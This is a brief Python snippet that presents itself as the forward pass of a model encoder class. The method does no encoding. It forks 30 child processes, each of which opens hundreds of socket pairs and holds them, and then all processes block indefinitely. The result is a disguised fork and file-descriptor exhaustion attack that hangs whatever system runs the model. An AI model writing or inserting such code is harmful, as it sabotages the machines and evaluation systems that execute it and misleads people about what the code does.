class Encoder(Encoder):
    def forward(self, x):
        import os
        import signal
        import socket

        for _ in range(30):
            if os.fork() == 0:
                kept = [socket.socketpair() for _ in range(240)]
                break
        signal.pause()
